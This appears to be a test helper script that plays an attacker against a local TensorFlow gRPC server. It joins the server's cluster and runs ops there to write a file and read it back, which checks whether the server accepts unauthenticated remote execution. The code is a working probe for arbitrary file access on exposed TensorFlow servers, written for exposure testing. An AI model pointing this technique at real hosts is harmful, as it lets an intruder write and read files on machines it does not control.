"""A TensorFlow client that tries to run ops inside whatever listens on 127.0.0.1:PORT.

Usage: tf_client.py PORT TASK FILE. As an attacker on the same host would, it joins
a cluster where that port is task TASK of job "worker", has the server write FILE
and read it back. Exit 0 and print "RAN" if the remote ops ran; exit 1 if the port
did not accept TensorFlow RPCs. The caller bounds the time.
"""

from __future__ import annotations

import os
import sys

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
port, task, target = sys.argv[1], int(sys.argv[2]), sys.argv[3]
PAYLOAD = "written by a remote TensorFlow client"

import tensorflow as tf  # noqa: E402

try:
    cluster = tf.train.ClusterSpec({"worker": {task: f"127.0.0.1:{port}"}})
    tf.config.experimental_connect_to_cluster(cluster, job_name="attacker", protocol="grpc")
    with tf.device(f"/job:worker/replica:0/task:{task}/device:CPU:0"):
        tf.io.write_file(target, tf.constant(PAYLOAD))
        back = tf.io.read_file(target).numpy().decode()  # .numpy() waits for the remote ops
except Exception as exc:  # any failure means the ops did not run there
    print(f"REFUSED {type(exc).__name__}: {str(exc).splitlines()[0][:200]}", flush=True)
    sys.exit(1)
print("RAN" if back == PAYLOAD else f"ODD {back[:40]!r}", flush=True)
sys.exit(0 if back == PAYLOAD else 1)
